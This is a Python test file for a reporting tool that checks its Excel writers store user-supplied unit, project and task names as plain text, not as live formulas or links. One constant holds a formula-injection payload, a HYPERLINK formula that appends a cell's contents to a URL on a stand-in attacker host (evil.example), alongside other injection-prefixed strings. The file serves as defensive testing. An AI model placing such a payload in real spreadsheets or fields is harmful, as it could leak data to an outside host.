"""Every workbook duban writes keeps text as text: a unit named like a formula is never a formula.

A unit, project or task name comes from a list someone filled in. Written with a library's
defaults, `=HYPERLINK(...)` would be a live link in the report officials open; here each writer
(the reports, the ledger export, the blank templates) is fed such a name and the file is read back.
"""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from duban.notifiers.reports.model import (
    CategoryTotal,
    Count,
    IndicatorRow,
    LedgerRow,
    ListItem,
    ProjectRow,
    Report,
    TaskRow,
    UnitRank,
)
from duban.notifiers.reports.xlsx import write_xlsx

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
OTHERS = ("+1+1", "-2+3", "@SUM(A1:A2)", "http://evil.example/")


def _text_cells(path: Path) -> dict[str, list[tuple[str, object, str]]]:
    """Every non-empty cell as (coordinate, value, data type), per sheet."""
    book = load_workbook(path)
    found = {}
    for sheet in book.worksheets:
        found[sheet.title] = [(c.coordinate, c.value, c.data_type) for row in sheet.iter_rows() for c in row
                              if c.value is not None]
    return found


def _assert_inert(path: Path, expected: int) -> None:
    cells = _text_cells(path)
    formulas = [(sheet, c) for sheet, row in cells.items() for c in row if c[2] == "f"]
    assert formulas == [], "no cell of the workbook is a formula"
    evil = [(sheet, c) for sheet, row in cells.items() for c in row if c[1] == EVIL]
    assert len(evil) >= expected, evil
    assert all(c[2] == "s" for _, c in evil), "read back as a plain string"
    book = load_workbook(path)
    assert not any(sheet._hyperlinks for sheet in book.worksheets), "no cell became a link"


def _report() -> Report:
    at = dt.datetime(2023, 7, 20, 1, 0, tzinfo=dt.UTC)
    report = Report(kind="quarterly", period="2023-Q2", period_label="2023年第二季度", title="2023年第二季度通报",
                    kind_name="季度通报", programme_name=EVIL, document="温鹿政办〔2023〕55号", signer="专班",
                    cutoff=at, since=at - dt.timedelta(days=90), time_progress=50.0, progress_label="2023年1—6月")
    report.indicators = [IndicatorRow(index="1", code="x", name=EVIL, unit_name=EVIL, sub=False, measure="%",
                                      basis="年度目标", target=10.0, value=4.0, value_label="2023年1—6月",
                                      completion=40.0, time_progress=50.0, gap=-10.0, level="red", units=EVIL,
                                      note=OTHERS[0], rule="r")]
    report.indicator_count = Count(red=1)
    report.projects = [ProjectRow(index="1", code="p", name=EVIL, category="战略支撑型", grade="省级",
                                  total_investment=10.0, planned=2.0, done=1.0, expected=1.0, completion=50.0,
                                  time_progress=50.0, level="green", units=OTHERS[1])]
    report.categories = [CategoryTotal("战略支撑型", 1, 10.0, 2.0, 1.0, 1.0, 0, 0, 1)]
    report.tasks = [TaskRow(index="1", code="t", title=EVIL, goal=OTHERS[2], deadline=dt.date(2023, 6, 30),
                            deadline_text="6月底", units=EVIL, status="overdue", status_label="逾期20天", level="yellow",
                            done_on=None)]
    report.ranking = [UnitRank(rank=1, code="u", name=EVIL, items=1, completion=40.0, time_progress=50.0, gap=-10.0,
                               red=1, yellow=0, green=0, tasks_overdue=1, praised=0, level="red")]
    report.urging = [ListItem(index=1, level="red", title=EVIL, subject_name=EVIL, units=EVIL, figures=OTHERS[3],
                              action=EVIL, source="", rule="r")]
    report.opened = [LedgerRow(index=1, title=EVIL, units=EVIL, level="red", first_seen=at, status="opened",
                               status_label="督办中", closed_at=None, notices=1, days_open=3)]
    return report


def test_a_report_workbook_writes_a_unit_named_like_a_formula_as_plain_text(tmp_path: Path) -> None:
    path = write_xlsx(_report(), tmp_path / "quarterly.xlsx")
    _assert_inert(path, expected=12)
    values = {c[1] for row in _text_cells(path).values() for c in row}
    assert set(OTHERS) <= values, "values starting with +, -, @ and links are kept as typed"


def test_the_ledger_export_writes_a_unit_named_like_a_formula_as_plain_text(tmp_path: Path) -> None:
    from duban.cli.alerts import LedgerRow as NoticeRow
    from duban.cli.alerts import write_ledger_xlsx

    at = dt.datetime(2023, 7, 17, 1, 0, tzinfo=dt.UTC)
    row = NoticeRow(id=1, created_at=at, round_key="monthly:2023-07-17", rule="lucheng.share_floor", subject="x",
                    subject_name=EVIL, period="2023-06", kind="warning", level="red", recipient_unit="fgj",
                    recipient_name=EVIL, title=EVIL, figures=OTHERS[1], delivery="已发送", addresses=(OTHERS[2],),
                    sent_at=at, alert_id=3)
    path = tmp_path / "台账.xlsx"
    write_ledger_xlsx([row], path)
    _assert_inert(path, expected=3)


def test_the_blank_templates_write_their_text_as_plain_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from dataclasses import replace

    import duban.store.templates_xlsx as templates
    from duban.store.importing.lists import LISTS

    units = next(spec for spec in LISTS if spec.name == "units")
    hostile = replace(units, description=EVIL, columns=tuple(replace(c, hint=EVIL) for c in units.columns))
    monkeypatch.setattr(templates, "LISTS", (hostile,))
    [path] = templates.write_templates(tmp_path)
    _assert_inert(path, expected=len(units.columns))


def test_every_module_that_writes_a_workbook_goes_through_the_shared_helper() -> None:
    root = Path(__file__).resolve().parents[1]
    writers = []
    for folder in ("duban", "engine", "store", "notifiers"):
        for path in (root / folder).rglob("*.py"):
            if path.is_symlink() or any(p.is_symlink() for p in path.relative_to(root).parents if p != Path(".")):
                continue
            text = path.read_text(encoding="utf-8")
            if "Workbook(" in text and "xlsx_text" not in path.name:
                writers.append((path.relative_to(root).as_posix(), "duban.store.xlsx_text" in text))
    assert len(writers) >= 3, writers
    assert all(uses for _, uses in writers), f"writes a workbook without duban.store.xlsx_text: {writers}"


AWKWARD = (EVIL, *OTHERS, " 前导空格", "尾随空格 ", "a & b < c > d \"引号\"", "控制\x01字符\x1f", "_x0041_ 字面转义",
           "<r><t>富文本</t></r>", "换行\n第二行", "\ufffe", "长" * 20000)


def test_the_report_rows_written_directly_are_the_bytes_xlsxwriter_would_write(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The report's list rows go straight into XlsxWriter's row file (docs/reports.md, Speed): every
    part of the workbook is byte for byte what XlsxWriter's own cell writers make of the same report,
    text that needs escaping, numbers, blanks, dates and NaN included."""
    import zipfile
    from dataclasses import replace

    from duban.notifiers.reports import xlsx

    report = _report()
    row = report.indicators[0]
    report.indicators = [replace(row, index=str(i), name=text, note=text, value=value, level=level)
                         for i, text in enumerate(AWKWARD)
                         for value, level in ((4.0, "red"), (float("nan"), "stale"), (None, None), (123456789.125, "green"))]
    task = report.tasks[0]
    report.tasks = [task, replace(task, title=AWKWARD[5], deadline=None, level=None)]
    direct = write_xlsx(report, tmp_path / "direct.xlsx")
    monkeypatch.setattr(xlsx, "_rows", xlsx._rows_by_cell)
    by_cell = write_xlsx(report, tmp_path / "by-cell.xlsx")
    a, b = zipfile.ZipFile(direct), zipfile.ZipFile(by_cell)
    assert a.namelist() == b.namelist()
    # Style numbers are given out on first use, and XlsxWriter uses a sheet's last row's styles only
    # when the workbook closes: the numbering may differ, what each cell is styled with may not.
    sheets = [name for name in a.namelist() if name.startswith("xl/worksheets/sheet")]
    unstyled = [name for name in sheets
                if re.sub(r' s="\d+"', "", a.read(name).decode()) != re.sub(r' s="\d+"', "", b.read(name).decode())]
    # One deliberate difference: XlsxWriter writes a string that looks like "<r>…</r>" as raw rich-text
    # XML; the direct path escapes it like any other text.
    assert unstyled == ["xl/worksheets/sheet2.xml"]
    assert "&lt;r&gt;&lt;t&gt;富文本" in a.read(unstyled[0]).decode("utf-8")
    book_a, book_b = load_workbook(direct), load_workbook(by_cell)
    for sheet_a, sheet_b in zip(book_a.worksheets, book_b.worksheets, strict=True):
        for row_a, row_b in zip(sheet_a.iter_rows(), sheet_b.iter_rows(), strict=True):
            for cell_a, cell_b in zip(row_a, row_b, strict=True):
                if cell_a.value != cell_b.value:
                    assert str(cell_b.value).startswith("富文本") and cell_a.value == AWKWARD[10]
                    continue
                assert _style(cell_a) == _style(cell_b), (sheet_a.title, cell_a.coordinate)
    cells = _text_cells(direct)["主要指标进度表"]
    shown = {value for _, value, _ in cells}
    assert {" 前导空格", "尾随空格 ", "a & b < c > d \"引号\"", "换行\n第二行", "长" * 20000} <= shown
    assert all(kind != "f" for _, _, kind in cells)


def _style(cell: object) -> tuple[object, ...]:
    c: Any = cell
    return (c.data_type, c.number_format, c.font.b, c.font.name, c.font.sz, c.font.color.rgb if c.font.color else None,
            c.fill.fill_type, c.fill.fgColor.rgb, c.border.left.style, c.alignment.horizontal, c.alignment.vertical,
            c.alignment.wrap_text)
